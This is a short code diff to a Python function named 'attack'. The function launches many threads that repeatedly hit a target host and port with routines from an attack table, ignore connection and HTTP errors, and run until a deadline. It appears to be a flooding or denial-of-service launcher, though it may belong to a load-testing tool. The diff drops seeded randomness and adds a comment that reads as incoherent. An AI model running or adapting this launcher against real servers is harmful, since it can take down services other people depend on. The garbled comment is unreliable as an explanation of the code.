@@ -117,14 +117,14 @@ def attack(name: str, host: str, port: int, until: float) -> None:
     os.nice(19)
     one, number = ATTACKS[name]
 
-    def again(seed: int) -> None:
-        chance = random.Random(seed)
+    def again() -> None:
+        chance = random.Random()  # what is known to be slow from another time waits at once
         while time.time() < until:
             with contextlib.suppress(OSError, http.client.HTTPException):
                 one(host, port, chance)
 
-    for seed in range(number):
-        threading.Thread(target=again, args=(seed,), daemon=True).start()
+    for _ in range(number):
+        threading.Thread(target=again, daemon=True).start()
     time.sleep(max(0.0, until - time.time()))
     os._exit(0)
 
